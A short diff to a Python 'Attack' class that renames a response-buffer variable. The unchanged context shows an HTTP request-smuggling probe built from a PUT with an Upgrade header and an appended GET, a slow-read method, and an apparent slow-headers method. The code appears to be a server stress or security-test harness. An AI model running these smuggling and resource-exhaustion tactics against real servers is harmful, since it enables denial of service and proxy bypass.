@@ -118,12 +118,12 @@ class Attack:
 
     @staticmethod
     def read_answer(line: ssl.SSLSocket) -> None:
-        said = b""
-        while b"\r\n\r\n" not in said:
+        answer = b""
+        while b"\r\n\r\n" not in answer:
             piece = line.recv(65536)
             if not piece:
                 raise ConnectionResetError
-            said += piece
+            answer += piece
 
     def unread(self) -> None:
         """Ask for the longest page that strangers may see, and never read it."""
@@ -150,10 +150,10 @@ class Attack:
             head = b"PUT /v1/rounds/x HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\n"
             fields = b"Upgrade: websocket\r\nContent-Length: %d\r\n\r\n" % len(GET)
             line.sendall(head + fields + GET)
-            said = b""
+            answer = b""
             while piece := line.recv(65536):
-                said += piece
-        if said.count(b"HTTP/1.1 ") != 1:
+                answer += piece
+        if answer.count(b"HTTP/1.1 ") != 1:
             self.done["smuggled"] += 1
 
     def slow_heads(self) -> None:
